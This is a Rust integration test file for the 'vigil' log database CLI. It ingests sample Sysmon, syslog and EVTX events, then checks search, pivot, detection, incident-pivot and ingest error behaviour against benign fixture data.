//! The central log database over the CLI: a real `vigil serve --rules DIR` on loopback,
//! `vigil ingest` of a JSON-lines file, a syslog file and a real EVTX sample, then `vigil
//! search`, `pivot`, `storage stats`, `detections`, `rules status` and `incident pivot` on
//! what was stored; and the exit codes and messages of `vigil ingest` when things go wrong.

use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::{RULE_REPEATED_FAILURES, RULE_WHOAMI, Server, admin_token, ok, run, wait_for};

const EVTX: &str = "../../../shared/data/evtx/EVTX-ATTACK-SAMPLES/Credential Access/4794_DSRM_password_change_t1098.evtx";

fn evtx_sample() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(EVTX)
}

fn sysmon1(record: u64, image: &str, cmd: &str) -> Value {
    json!({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
            "EventID": 1, "EventRecordID": record, "Computer": "ws01.corp.example",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "TimeCreated": {"#attributes": {"SystemTime": "2026-01-10T10:00:00Z"}}
        },
        "EventData": {"Image": image, "CommandLine": cmd, "User": "CORP\\alice"}
    }})
}

/// Five good events (one a whoami run, two carrying 203.0.113.77) and a broken line 6.
fn app_jsonl() -> String {
    let lines = [
        sysmon1(1, r"C:\Windows\System32\whoami.exe", "whoami /all"),
        sysmon1(2, r"C:\Windows\notepad.exe", "notepad report.txt"),
        json!({"@timestamp": "2026-01-10T10:01:00Z", "host": {"name": "web-01"},
               "source": {"ip": "203.0.113.77"}, "user": {"name": "alice"},
               "message": "GET /admin 403"}),
        json!({"@timestamp": "2026-01-10T10:02:00Z", "host": {"name": "web-02"},
               "source": {"ip": "203.0.113.77"}, "user": {"name": "alice"},
               "message": "POST /login 200"}),
        json!({"@timestamp": "2026-01-10T10:03:00Z", "host": {"name": "web-01"},
               "source": {"ip": "198.51.100.4"}, "user": {"name": "bob"},
               "message": "GET / 200"}),
    ];
    let mut text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    text.push_str("{broken\n");
    text
}

/// Three syslog lines: two RFC 3164, one RFC 5424 carrying the IP as a whole value.
const AUTH_LOG: &str = "\
<38>Jan 10 10:05:00 bastion sshd[42]: Failed password for root from 203.0.113.77 port 22 ssh2
<38>Jan 10 10:05:02 bastion sshd[42]: Failed password for root from 203.0.113.77 port 22 ssh2
<86>1 2026-01-10T10:05:04Z bastion sshd 42 - [origin ip=\"203.0.113.77\"] Accepted password for root
";

/// Polls `f` until it returns `Some`, for up to 20 s (new events become searchable when the
/// index commits, about once a second).
fn eventually<T>(what: &str, mut f: impl FnMut() -> Option<T>) -> T {
    let start = Instant::now();
    loop {
        if let Some(v) = f() {
            return v;
        }
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "timed out waiting for {what}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn json_of(out: Output) -> Value {
    serde_json::from_str(&ok(out)).unwrap()
}

fn json_lines(out: Output) -> Vec<Value> {
    ok(out)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn count_of(buckets: &Value, value: &str) -> u64 {
    buckets
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["value"] == value)
        .map_or(0, |b| b["count"].as_u64().unwrap())
}

struct Fixture {
    _dir: tempfile::TempDir,
    root: PathBuf,
    server: Server,
    token: String,
}

fn start() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_path_buf();
    let data = root.join("data");
    let rules = root.join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(rules.join("whoami.yml"), RULE_WHOAMI).unwrap();
    let token = admin_token(&data, "admin", "alice");
    let server = Server::start_with(&data, &["--rules", rules.to_str().unwrap()]);
    Fixture {
        _dir: dir,
        root,
        server,
        token,
    }
}

#[test]
fn an_event_too_large_to_send_is_read_and_said_not_sent() {
    let f = start();
    let cli = |args: &[&str]| f.server.cli(&f.token, args);
    // An event larger than a request may be is read, not sent, and said so: read = stored +
    // rejected + not sent.
    let big = f.root.join("big.jsonl");
    let filler = "x".repeat(2000);
    std::fs::write(&big, format!("{{\"a\":\"{filler}\"}}\n{{\"a\":1}}\n")).unwrap();
    let summary = json_of(cli(&[
        "ingest",
        big.to_str().unwrap(),
        "--service",
        "app",
        "--max-batch-bytes",
        "1024",
        "--json",
    ]));
    assert_eq!(summary["events_read"], 2, "{summary}");
    assert_eq!(summary["stored"], 1, "{summary}");
    assert_eq!(summary["not_sent"], 1, "{summary}");
    assert_eq!(summary["errors"]["count"], 1, "{summary}");
}

#[test]
fn events_older_than_their_retention_are_said_to_expire() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let token = admin_token(&data, "admin", "alice");
    let server = Server::start_with(&data, &["--retention", "evidence=30"]);
    let logs = dir.path().join("old.jsonl");
    std::fs::write(
        &logs,
        "{\"@timestamp\":\"2019-04-27T15:57:25Z\",\"a\":1}\n{\"a\":2}\n",
    )
    .unwrap();
    let ingest = |service: &str, json: bool| {
        let mut args = vec!["ingest", logs.to_str().unwrap(), "--service", service];
        if json {
            args.push("--json");
        }
        server.cli(&token, &args)
    };
    let summary = json_of(ingest("evidence", true));
    assert_eq!(summary["stored"], 2, "{summary}");
    assert_eq!(summary["expiring"], 1, "{summary}");
    let out = ingest("evidence", false);
    let warned = stderr(&out);
    let text = ok(out);
    assert!(
        warned.contains("warning: 1 event is older than the service's retention")
            && !text.contains("retention"),
        "{warned}\n{text}"
    );
    // A service kept forever: nothing to say.
    let summary = json_of(ingest("archive", true));
    assert_eq!(summary["expiring"], 0, "{summary}");
}

#[test]
fn ingest_then_search_pivot_stats_and_detections() {
    let f = start();
    let cli = |args: &[&str]| f.server.cli(&f.token, args);

    // JSON lines in a folder, with a file that is no log format (skipped) and a corrupt gzip
    // file (reported, skipped): the run goes on and exits 0. The log named again beside its
    // folder is sent once.
    let app = f.root.join("app");
    std::fs::create_dir(&app).unwrap();
    std::fs::write(app.join("events.jsonl"), app_jsonl()).unwrap();
    std::fs::write(app.join("README.txt"), "these are the app logs\n").unwrap();
    std::fs::write(app.join("old.jsonl.gz"), b"\x1f\x8b\x08\x00garbage").unwrap();
    let out = cli(&[
        "ingest",
        app.to_str().unwrap(),
        app.join("events.jsonl").to_str().unwrap(),
        "--service",
        "app",
        "--tenant",
        "contoso",
        "--batch",
        "2",
        "--json",
    ]);
    let summary = json_of(out);
    assert_eq!(summary["files"], 1, "{summary}");
    assert_eq!(summary["files_skipped"], 1, "{summary}");
    assert_eq!(summary["files_given_twice"], 1, "{summary}");
    assert_eq!(summary["events_read"], 6, "{summary}");
    assert_eq!(summary["stored"], 5, "{summary}");
    assert_eq!(summary["batches"], 3, "{summary}");
    assert_eq!(summary["rejected"]["count"], 1, "{summary}");
    let rejected = &summary["rejected"]["first"][0];
    assert!(
        rejected["file"].as_str().unwrap().ends_with("events.jsonl"),
        "{summary}"
    );
    assert_eq!(rejected["line"], 6, "{summary}");
    assert_eq!(summary["errors"]["count"], 1, "{summary}");
    assert!(
        summary["errors"]["first"][0]["file"]
            .as_str()
            .unwrap()
            .ends_with("old.jsonl.gz"),
        "{summary}"
    );
    assert_eq!(summary["detections"], 1, "{summary}");

    // Syslog: a plain file, and gzip-compressed lines piped in as `-` (`journalctl | vigil
    // ingest -`), in the human summary.
    let (plain, last) = AUTH_LOG.split_at(AUTH_LOG.find("<86>").unwrap());
    let auth = f.root.join("auth.log");
    std::fs::write(&auth, plain).unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, last.as_bytes()).unwrap();
    let piped = gz.finish().unwrap();
    let bytes = plain.len() + piped.len();
    let text = ok(f.server.cli_with_input(
        &f.token,
        &[
            "ingest",
            auth.to_str().unwrap(),
            "-",
            "--service",
            "bastion",
        ],
        piped,
    ));
    assert!(text.contains("3 read, 3 stored, 0 rejected"), "{text}");
    // What was piped in counts as read, as a file's size does.
    assert!(
        text.contains(&format!("files:      2, {bytes} B")),
        "{text}"
    );
    // A batch never spans two sources (its key is its place in its own).
    assert!(text.contains(", 2 requests, "), "{text}");

    // A real EVTX sample: every record is stored, and with --wait everything sent so far is
    // searchable when the command returns.
    let evtx = evtx_sample();
    let records = vigil_events::open(&evtx)
        .unwrap()
        .filter(Result::is_ok)
        .count() as u64;
    assert!(records > 0);
    let summary = json_of(cli(&[
        "ingest",
        evtx.to_str().unwrap(),
        "--service",
        "dc01",
        "--wait",
        "--json",
    ]));
    assert_eq!(summary["events_read"], records, "{summary}");
    assert_eq!(summary["stored"], records, "{summary}");
    assert_eq!(summary["rejected"]["count"], 0, "{summary}");

    // Search: JSON lines of events, newest first, once the index has committed.
    let bastion = eventually("the syslog events to be searchable", || {
        let events = json_lines(cli(&["search", "service:bastion", "--json"]));
        (events.len() == 3).then_some(events)
    });
    assert!(bastion.iter().all(|e| e["service"] == "bastion"));
    assert!(bastion.iter().all(|e| e["host"] == "bastion"));
    let t0 = bastion[0]["time"].as_str().unwrap();
    let t2 = bastion[2]["time"].as_str().unwrap();
    assert!(t0 >= t2, "newest first: {t0} {t2}");
    let alice = json_lines(cli(&["search", "user.name:alice", "--json"]));
    assert_eq!(alice.len(), 2);
    // A --from without an offset is read in --timezone: 11:01:30 in Berlin in January is
    // 10:01:30 UTC, between alice's two requests.
    let from = |zone: &[&str]| {
        let mut args = vec!["search", "user.name:alice", "--from", "2026-01-10T11:01:30"];
        args.extend_from_slice(zone);
        args.push("--json");
        json_lines(cli(&args)).len()
    };
    assert_eq!(from(&["--timezone", "Europe/Berlin"]), 1);
    assert_eq!(from(&[]), 0, "UTC unless told");
    // An IPv4 network finds the addresses it holds, in a field or as any whole value (alice's
    // two and the structured data `origin ip=` of a syslog line; not inside the bastion's
    // messages, which the address itself finds).
    let count = |q: &str| json_lines(cli(&["search", q, "--json"])).len();
    assert_eq!(count("source.ip:203.0.113.0/24"), 2);
    assert_eq!(count("source.ip:198.51.100.0/29"), 1);
    assert_eq!(
        count("source.ip:198.51.100.0/30"),
        0,
        "198.51.100.4 lies past .3"
    );
    assert_eq!(count("203.0.112.0/23"), 3);
    assert_eq!(count("203.0.113.77"), 5);
    // The table shows the times in that zone too (10:02 UTC is 11:02 in Berlin), naming it.
    let berlin = ok(cli(&[
        "search",
        "user.name:alice",
        "--timezone",
        "Europe/Berlin",
    ]));
    assert!(
        berlin.contains("TIME (Europe/Berlin)") && berlin.contains("2026-01-10 11:02:00"),
        "{berlin}"
    );
    // Columns of one's choice, in a table or as CSV (UTC); an aggregation as CSV too.
    let columns = ok(cli(&[
        "search",
        "user.name:alice",
        "--fields",
        "source.ip,message",
        "--fields=tenant,no.such.field",
    ]));
    let header = columns.lines().nth(1).unwrap_or_default();
    for column in [
        "TIME (UTC)",
        "source.ip",
        "message",
        "tenant",
        "no.such.field",
    ] {
        assert!(header.contains(column), "{column} in {columns}");
    }
    assert!(
        columns.contains("203.0.113.77") && columns.contains("POST /login 200"),
        "{columns}"
    );
    assert!(
        !columns.contains("web-01"),
        "only the columns asked for: {columns}"
    );
    let csv = ok(cli(&[
        "search",
        "user.name:alice",
        "--csv",
        "--fields",
        "message,host",
    ]));
    assert_eq!(
        csv,
        "time,message,host\n\
         2026-01-10T10:02:00.000Z,POST /login 200,web-02\n\
         2026-01-10T10:01:00.000Z,GET /admin 403,web-01\n"
    );
    let whole = ok(cli(&["search", "user.name:alice", "--csv", "--limit", "1"]));
    let mut lines = whole.lines();
    assert_eq!(lines.next(), Some("time,service,host,tenant,event"));
    let row = lines.next().unwrap_or_default();
    assert!(
        row.starts_with("2026-01-10T10:02:00.000Z,app,web-02,contoso,\"{")
            && row.contains(r#"""message"":""POST /login 200"""#),
        "the event's JSON, quoted: {row}"
    );
    let counted = ok(cli(&["search", "user.name:alice | count by host", "--csv"]));
    assert_eq!(counted, "host,count\nweb-01,1\nweb-02,1\n");
    // Several fields: a column each, and a row per combination of their values.
    let combined = ok(cli(&[
        "search",
        "user.name:alice | count by host, service",
        "--csv",
    ]));
    assert_eq!(combined, "host,service,count\nweb-01,app,1\nweb-02,app,1\n");
    // VIGIL_TIMEZONE sets it once for every search-like command.
    let from_env = ok(f
        .server
        .command(&f.token, &["search", "user.name:alice"])
        .env("VIGIL_TIMEZONE", "Europe/Berlin")
        .output()
        .unwrap());
    assert!(from_env.contains("TIME (Europe/Berlin)"), "{from_env}");
    let utc = ok(cli(&["search", "user.name:alice"]));
    assert!(
        utc.contains("TIME (UTC)") && utc.contains("2026-01-10 10:02:00"),
        "{utc}"
    );
    assert!(alice.iter().all(|e| e["tenant"] == "contoso"));
    // --limit with more pages behind it, and the human table.
    // The machine formats keep stdout for the data and say on stderr what --limit left out.
    let total = 8 + records;
    for format in ["--json", "--raw", "--csv"] {
        let out = cli(&["search", "*", "--limit", "2", format]);
        let said = stderr(&out);
        let data = ok(out);
        let header = usize::from(format == "--csv");
        assert_eq!(data.lines().count(), 2 + header, "{format}: {data}");
        assert!(
            said.contains(&format!(
                "note: 2 of {total} events given, newest first; --limit N or --all for more"
            )),
            "{format}: {said}"
        );
    }
    let limited = json_lines(cli(&["search", "*", "--limit", "2", "--json"]));
    assert_eq!(limited.len(), 2);
    let everything = cli(&["search", "", "--all", "--json"]);
    assert!(
        !stderr(&everything).contains("events given"),
        "{}",
        stderr(&everything)
    );
    let all = json_lines(everything);
    assert_eq!(all.len() as u64, total);
    // No match: no JSON line, and nothing said to have been left out.
    let none = cli(&["search", "user.name:nobody-at-all", "--json"]);
    assert!(!stderr(&none).contains("events given"), "{}", stderr(&none));
    assert_eq!(ok(none), "");
    let table = ok(cli(&["search", "service:bastion"]));
    assert!(
        table.contains("bastion") && table.contains("Failed password"),
        "{table}"
    );
    assert!(table.contains("3 of 3 events"), "{table}");

    // A field no event has is named on stderr, with the path it likely means; a field that
    // exists draws no warning.
    let foreign = cli(&["search", "EventID:4688"]);
    let warning = String::from_utf8_lossy(&foreign.stderr).into_owned();
    assert!(
        warning.contains(
            "warning: no stored event has the field `EventID`; did you mean `Event.System.EventID`?"
        ),
        "{warning}"
    );
    assert!(ok(foreign).contains("no events match"));
    let known = cli(&["search", "Event.System.EventID:4688", "--json"]);
    assert!(
        known.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&known.stderr)
    );
    let typo = cli(&["search", "* | count by usr.name", "--json"]);
    assert_eq!(
        String::from_utf8_lossy(&typo.stderr).trim_end(),
        "warning: no stored event has the field `usr.name`; did you mean `user.name`?"
    );
    assert_eq!(json_of(typo)["field"], "usr.name");

    // Aggregation.
    let agg = json_of(cli(&["search", "* | count by service", "--json"]));
    assert_eq!(agg["field"], "service", "{agg}");
    assert_eq!(count_of(&agg["buckets"], "app"), 5, "{agg}");
    assert_eq!(count_of(&agg["buckets"], "bastion"), 3, "{agg}");
    assert_eq!(count_of(&agg["buckets"], "dc01"), records, "{agg}");
    let agg_table = ok(cli(&["search", "* | count by service"]));
    assert!(
        agg_table.contains("bastion") && agg_table.contains("app"),
        "{agg_table}"
    );
    let pairs = json_of(cli(&["search", "* | top 2 service, tenant", "--json"]));
    assert_eq!(
        pairs["buckets"][0]["values"],
        json!(["app", "contoso"]),
        "{pairs}"
    );
    assert_eq!(pairs["fields"], json!(["service", "tenant"]), "{pairs}");
    assert_eq!(pairs["field"], "service, tenant", "{pairs}");
    let first = &pairs["buckets"][0];
    assert_eq!(
        (first["values"][0].as_str(), first["count"].as_u64()),
        (Some("app"), Some(5)),
        "{pairs}"
    );
    // The least frequent service first (stacking).
    let rare = json_of(cli(&["search", "* | rare 1 service", "--json"]));
    let rarest = if records < 3 { "dc01" } else { "bastion" };
    assert_eq!(rare["buckets"][0]["value"], rarest, "{rare}");
    let pairs_table = ok(cli(&["search", "* | top 2 service, tenant"]));
    assert!(
        pairs_table.contains("service")
            && pairs_table.contains("tenant")
            && pairs_table.contains("2 combinations"),
        "{pairs_table}"
    );
    // The events without the field are told from those whose values are beyond the limit:
    // the two Sysmon events of app have no user.name, bob's is beyond `top 1`; no bastion
    // line has one.
    let users = json_of(cli(&["search", "service:app | top 1 user.name", "--json"]));
    assert_eq!(
        (&users["other"], &users["missing"]),
        (&json!(1), &json!(2)),
        "{users}"
    );
    let users_csv = ok(cli(&["search", "service:app | top 1 user.name", "--csv"]));
    assert_eq!(
        users_csv,
        "user.name,count\nalice,2\n(other values),1\n(no value),2\n"
    );
    let users_table = ok(cli(&["search", "service:app | top 1 user.name"]));
    let row = |label: &str| {
        users_table
            .lines()
            .find(|line| line.contains(label))
            .map(|line| {
                line.split_whitespace()
                    .filter(|w| w.parse::<u64>().is_ok())
                    .collect::<Vec<_>>()
            })
    };
    assert_eq!(row("(other values)"), Some(vec!["1"]), "{users_table}");
    assert_eq!(row("(no value)"), Some(vec!["2"]), "{users_table}");
    let none = ok(cli(&["search", "service:bastion | top 5 user.name"]));
    assert!(
        none.contains("(no value)") && !none.contains("(other values)"),
        "{none}"
    );

    // Pivot on the IP: the web events, the syslog line carrying it as a structured-data value
    // and the two whose message mentions it.
    let pivot = json_of(cli(&["pivot", "203.0.113.77", "--json"]));
    assert_eq!(count_of(&pivot["by_service"], "app"), 2, "{pivot}");
    assert_eq!(count_of(&pivot["by_service"], "bastion"), 3, "{pivot}");
    assert_eq!(count_of(&pivot["by_tenant"], "contoso"), 2, "{pivot}");
    // The syslog lines name no tenant: counted as such, so the counts add up.
    assert_eq!(count_of(&pivot["by_tenant"], ""), 3, "{pivot}");
    let pivot_text = ok(cli(&["pivot", "203.0.113.77"]));
    assert!(pivot_text.contains("(none)"), "{pivot_text}");
    assert!(
        pivot_text.contains("SERVICE") && pivot_text.contains("bastion"),
        "{pivot_text}"
    );
    let in_field = json_of(cli(&["pivot", "alice", "--field", "user.name", "--json"]));
    assert_eq!(in_field["total"], 2, "{in_field}");
    // A network: the addresses it holds, as whole values (in a field, or any).
    let network = json_of(cli(&["pivot", "203.0.113.0/24", "--json"]));
    assert_eq!(network["total"], 3, "{network}");
    let in_source = json_of(cli(&[
        "pivot",
        "203.0.113.0/24",
        "--field",
        "source.ip",
        "--json",
    ]));
    assert_eq!(in_source["total"], 2, "{in_source}");
    let in_berlin = ok(cli(&["pivot", "alice", "--timezone", "+01:00"]));
    assert!(
        in_berlin.contains("first 2026-01-10 11:00:00 +01:00")
            && in_berlin.contains("TIME (+01:00)"),
        "{in_berlin}"
    );

    // Storage stats list every service.
    let stats = json_of(cli(&["storage", "stats", "--json"]));
    let services: Vec<&str> = stats["services"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["service"].as_str().unwrap())
        .collect();
    for s in ["app", "bastion", "dc01"] {
        assert!(services.contains(&s), "{stats}");
    }
    assert_eq!(stats["total_events"], 8 + records, "{stats}");
    let stats_text = ok(cli(&["storage", "stats"]));
    assert!(
        stats_text.contains("dc01") && stats_text.contains("RETENTION"),
        "{stats_text}"
    );

    // Detections: the whoami run, and nothing at high or above.
    let detections = json_of(cli(&["detections", "--json"]));
    let items = detections["items"].as_array().unwrap();
    assert!(
        items
            .iter()
            .any(|d| d["rule_id"] == "11111111-1111-1111-1111-111111111111"
                && d["service"] == "app"
                && d["level"] == "medium"),
        "{detections}"
    );
    let high = json_of(cli(&["detections", "--min-level", "high", "--json"]));
    assert_eq!(high["total"], 0, "{high}");
    let by_service = json_of(cli(&["detections", "--service", "bastion", "--json"]));
    assert_eq!(by_service["total"], 0, "{by_service}");
    let table = ok(cli(&["detections"]));
    assert!(table.contains("Whoami Run"), "{table}");
    let following = ok(cli(&["detections", "--after-id", "0"]));
    assert!(
        following.contains("after id 0, oldest first") && following.contains("Whoami Run"),
        "{following}"
    );
    // A poller that caught up is told so, not to check its rules.
    let newest = json_of(cli(&["detections", "--json"]))["items"][0]["id"]
        .as_u64()
        .unwrap()
        .to_string();
    let caught_up = ok(cli(&["detections", "--after-id", &newest]));
    assert_eq!(
        caught_up.trim(),
        format!("no detections after id {newest} yet"),
        "{caught_up}"
    );
    // By host, tenant and the time of the event matched (10:00 UTC, 11:00 in Berlin).
    let total = |filters: &[&str]| {
        let mut args = vec!["detections", "--json"];
        args.extend_from_slice(filters);
        json_of(cli(&args))["total"].as_u64().unwrap()
    };
    assert_eq!(
        total(&["--host", "ws01.corp.example", "--tenant", "contoso"]),
        1
    );
    assert_eq!(total(&["--host", "web-01"]), 0);
    assert_eq!(total(&["--tenant", "globex"]), 0);
    assert_eq!(
        total(&[
            "--from",
            "2026-01-10T10:00:00Z",
            "--to",
            "2026-01-10T10:00:01Z"
        ]),
        1
    );
    assert_eq!(
        total(&[
            "--from",
            "2026-01-10T10:30:00",
            "--timezone",
            "Europe/Berlin"
        ]),
        1
    );
    assert_eq!(
        total(&[
            "--from",
            "2026-01-10T11:30:00",
            "--timezone",
            "Europe/Berlin"
        ]),
        0
    );
    assert_eq!(
        total(&["--since", "1h"]),
        0,
        "the event is from January 2026"
    );
    let bad = cli(&["detections", "--from", "yesterday"]);
    assert!(
        bad.status.code() == Some(2) && stderr(&bad).contains("'--from <FROM>'"),
        "{}",
        stderr(&bad)
    );
    let berlin = ok(cli(&["detections", "--timezone", "Europe/Berlin"]));
    assert!(
        berlin.contains("EVENT TIME (Europe/Berlin)") && berlin.contains("2026-01-10 11:00:00"),
        "{berlin}"
    );
    // One detection, with the whole event it matched.
    let whoami = items
        .iter()
        .find(|d| d["rule_id"] == "11111111-1111-1111-1111-111111111111")
        .unwrap();
    let id = whoami["id"].to_string();
    let shown = ok(cli(&["detections", &id]));
    assert!(
        shown.starts_with(&format!("detection {id} — Whoami Run (medium)")),
        "{shown}"
    );
    assert!(shown.contains("whoami"), "{shown}");
    let one = json_of(cli(&["detections", &id, "--json"]));
    assert_eq!(one["event"]["id"], whoami["event_id"], "{one}");

    // Rules on the server.
    let status = json_of(cli(&["rules", "status", "--json"]));
    assert_eq!(status["loaded"], 1, "{status}");
    let reloaded = ok(cli(&["rules", "reload"]));
    assert!(reloaded.contains("1 rule loaded"), "{reloaded}");

    // An incident carrying the IP: the pivot proposes the services it was seen in beyond the
    // incident's scope, and --accept adds them.
    ok(cli(&[
        "incident",
        "open",
        "--title",
        "Brute force on the bastion",
        "--summary",
        "failed root logins",
        "--service",
        "app",
        "--indicator",
        "ip:203.0.113.77",
    ]));
    let proposed = json_of(cli(&["incident", "pivot", "INC-1", "--json"]));
    assert_eq!(
        proposed["proposed_services"],
        json!(["bastion"]),
        "{proposed}"
    );
    assert_eq!(proposed["accepted"], false, "{proposed}");
    let text = ok(cli(&["incident", "pivot", "INC-1"]));
    assert!(text.contains("--accept"), "{text}");
    let accepted = json_of(cli(&["incident", "pivot", "INC-1", "--accept", "--json"]));
    assert_eq!(accepted["accepted"], true, "{accepted}");
    let inc = json_of(cli(&["incident", "show", "INC-1", "--json"]));
    let scope = inc["services"].as_array().unwrap();
    assert!(scope.contains(&json!("bastion")), "{inc}");
    // VIGIL_TIMEZONE: the incident and storage tables show times there, naming it.
    for (args, header) in [
        (&["incident", "list"][..], "CREATED (Asia/Tokyo)"),
        (&["incident", "show", "INC-1"][..], "WHEN (Asia/Tokyo)"),
        (&["storage", "stats"][..], "FIRST (Asia/Tokyo)"),
    ] {
        let shown = ok(f
            .server
            .command(&f.token, args)
            .env("VIGIL_TIMEZONE", "Asia/Tokyo")
            .output()
            .unwrap());
        assert!(shown.contains(header), "{args:?}: {shown}");
    }
    // A network indicator (written as its own address) pivots on the addresses it holds.
    ok(cli(&[
        "incident",
        "indicator",
        "add",
        "INC-1",
        "network",
        "203.0.113.200/24",
    ]));
    let pivoted = json_of(cli(&["incident", "pivot", "INC-1", "--json"]));
    let network = pivoted["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["kind"] == "network")
        .unwrap();
    assert_eq!(network["value"], "203.0.113.0/24", "{pivoted}");
    assert_eq!(network["total"], 3, "{pivoted}");
    // A user account is followed whole: alice's two requests, not the `CORP\alice` of the
    // Sysmon events, which are counted apart and not proposed.
    ok(cli(&[
        "incident",
        "indicator",
        "add",
        "INC-1",
        "user_account",
        "alice",
    ]));
    let pivoted = json_of(cli(&["incident", "pivot", "INC-1", "--json"]));
    let account = pivoted["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["kind"] == "user_account")
        .unwrap();
    assert_eq!(account["total"], 2, "{pivoted}");
    assert_eq!(account["in_text_only"], 2, "{pivoted}");
    let text = ok(cli(&["incident", "pivot", "INC-1"]));
    assert!(
        text.contains("user_account alice: followed as a whole value; 2 more events hold it only inside a text (in_text_only), not proposed: `vigil pivot alice` shows them"),
        "{text}"
    );
}

#[test]
fn log_commands_explain_themselves() {
    let ingest = ok(run(&["ingest", "--help"]));
    assert!(
        ingest.contains("Examples:")
            && ingest.contains("Exit status")
            && ingest.contains("--strict"),
        "{ingest}"
    );
    for cmd in [
        &["search", "--help"][..],
        &["pivot", "--help"],
        &["storage", "stats", "--help"],
        &["detections", "--help"],
        &["rules", "status", "--help"],
        &["bench", "ingest", "--help"],
        &["incident", "pivot", "--help"],
    ] {
        let help = ok(run(cmd));
        assert!(help.contains("--server"), "{cmd:?}: {help}");
    }
    let top = ok(run(&["--help"]));
    for cmd in ["ingest", "search", "pivot", "storage", "detections"] {
        assert!(top.contains(cmd), "{top}");
    }
}

#[test]
fn ingest_says_what_went_wrong_and_exits_accordingly() {
    let f = start();
    let file = f.root.join("events.jsonl");
    std::fs::write(&file, app_jsonl()).unwrap();
    let path = file.to_str().unwrap();

    // --strict turns a rejected line into exit status 1; the good events are still stored.
    let out = f
        .server
        .cli(&f.token, &["ingest", path, "--service", "app", "--strict"]);
    assert!(!out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("5 stored, 1 rejected"), "{text}");
    // The problems go to stderr, the counts stay on stdout.
    let err = stderr(&out);
    assert!(
        err.contains("rejected by the server:\n") && err.contains("events.jsonl:6"),
        "{err}"
    );
    assert!(!text.contains("events.jsonl:6"), "{text}");
    assert!(err.contains("--strict"), "{err}");

    // A JSON array cut short: its whole elements are stored, the damage is named once with
    // its place.
    let cut = f.root.join("cut.json");
    std::fs::write(
        &cut,
        r#"[{"message":"one","n":1},{"message":"two","n":2},{"message":"thr"#,
    )
    .unwrap();
    let out = f.server.cli(
        &f.token,
        &["ingest", cut.to_str().unwrap(), "--service", "app"],
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("2 stored"), "{text}");
    let err = stderr(&out);
    let cut_name = cut.display().to_string();
    assert!(
        err.contains(&format!(
            "{cut_name}: invalid JSON: not a JSON array at byte 49: the element there is cut short"
        )),
        "{err}"
    );
    assert_eq!(err.matches(&cut_name).count(), 1, "{err}");

    // An EVTX file cut short by a copy stopped past its last record: the record is stored,
    // the cut named with what it cost, counted among the errors, not the events.
    let sample = std::fs::read(evtx_sample()).unwrap();
    let cut_evtx = f.root.join("cut.evtx");
    std::fs::write(&cut_evtx, &sample[..4096 + 3000]).unwrap();
    let out = f.server.cli(
        &f.token,
        &["ingest", cut_evtx.to_str().unwrap(), "--service", "dc"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("1 read, 1 stored, 0 rejected\n") && text.contains("errors:     1 "),
        "{text}"
    );
    let said = format!("{text}{}", stderr(&out));
    assert!(
        said.contains("the file ends after 3000 of the 65536 bytes of EVTX chunk 0 (chunks counted from 0; its header counts ")
            && said.contains("no record was after the cut"),
        "{said}"
    );

    // A bad token: the server refuses the first batch, sending stops, the message says how
    // to get a token.
    let out = f
        .server
        .cli("vgl_not_a_token", &["ingest", path, "--service", "app"]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(
        err.contains("sending stopped") && err.contains("vigil admin token"),
        "{err}"
    );

    // A viewer may not send events.
    let viewer = admin_token(&f.root.join("data"), "viewer", "vera");
    let out = f.server.cli(&viewer, &["ingest", path, "--service", "app"]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("sending stopped"), "{}", stderr(&out));

    // No server there.
    let out = run(&[
        "ingest",
        path,
        "--service",
        "app",
        "--server",
        "http://127.0.0.1:9",
        "--token",
        &f.token,
    ]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("vigil serve"), "{}", stderr(&out));

    // Nothing to send.
    let empty = f.root.join("empty");
    std::fs::create_dir(&empty).unwrap();
    std::fs::write(empty.join("notes.txt"), "nothing here\n").unwrap();
    let out = f.server.cli(
        &f.token,
        &["ingest", empty.to_str().unwrap(), "--service", "app"],
    );
    assert!(!out.status.success());
    assert!(stderr(&out).contains("no events found"), "{}", stderr(&out));
    // A folder holding a text log of no format Vigil reads (a Windows CBS log) and a README:
    // the error names the log and says --text reads it.
    let windows = f.root.join("windows");
    std::fs::create_dir(&windows).unwrap();
    std::fs::write(windows.join("README.md"), "# Windows logs\n").unwrap();
    let cbs = windows.join("Windows_2k.log");
    std::fs::write(
        &cbs,
        "2016-09-28 04:30:30, Info                  CBS    Loaded Servicing Stack v6.1.7601.23505\n",
    )
    .unwrap();
    let out = f.server.cli(
        &f.token,
        &["ingest", windows.to_str().unwrap(), "--service", "windows"],
    );
    assert!(!out.status.success());
    let err = stderr(&out);
    let error = err
        .lines()
        .find(|l| l.starts_with("error:"))
        .unwrap_or_default();
    assert_eq!(
        error,
        format!(
            "error: nothing to send: no events found in {}; 2 files skipped, in no format Vigil reads: 1 named like a text log ({}) and 1 other file; give --text to store each line of it as an event",
            windows.display(),
            cbs.display()
        ),
        "{err}"
    );
    // An empty log is read, holds nothing, and is no error (nor an unknown format).
